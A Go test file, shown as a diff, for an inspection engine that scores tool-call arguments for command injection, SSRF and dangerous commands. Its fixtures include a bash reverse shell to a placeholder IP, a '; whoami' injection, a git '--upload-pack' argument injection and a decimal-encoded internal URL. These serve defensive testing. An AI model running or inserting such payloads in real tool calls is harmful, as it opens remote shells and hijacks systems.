@@ -1,0 +1,26 @@
+package inspect
+
+import "testing"
+
+func TestSignalsOfValues(t *testing.T) {
+	e := testEngine(t)
+	f := func(tool, args, signal string, atLeast float64) {
+		t.Helper()
+		in := Input{Tenant: "default", Method: "tools/call", Tool: tool, Kind: "request", Direction: "client_to_server",
+			Body: []byte(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"` + tool + `","arguments":` + args + `}}`)}
+		out := e.Inspect(&in)
+		if got := out.Signals[signal]; got < atLeast || atLeast == 0 && got != 0 {
+			t.Errorf("%s is %.2f, want %.2f: %s", signal, got, atLeast, args)
+		}
+	}
+	f("get_weather", `{"city":"Bergen; whoami"}`, "argument_shape", 0.7)
+	f("get_weather", `{"city":"Bergen (Hordaland)"}`, "argument_shape", 0)
+	f("get_weather", `{"place":{"city":["Oslo","Bergen` + "`id`" + `"]}}`, "argument_shape", 0)
+	f("clone", `{"repo_url":"https://git.example/a%20b.git"}`, "argument_shape", 0)
+	f("clone", `{"branch":"--upload-pack=touch /tmp/x"}`, "argument_shape", 0.9)
+	f("fetch", `{"url":"http://2852039166/latest"}`, "ssrf", 0.9)
+	f("note", `{"text":"see http://2852039166/latest; whoami"}`, "argument_shape", 0)
+	f("execute_command", `{"command":"bash -i >& /dev/tcp/192.0.2.7/44 0>&1"}`, "dangerous_command", 0.9)
+	f("execute_command", `{"command":"ls -la"}`, "dangerous_command", 0)
+	f("get_page", `{"topic":"bash -i >& /dev/tcp/192.0.2.7/44 0>&1"}`, "dangerous_command", 0)
+}
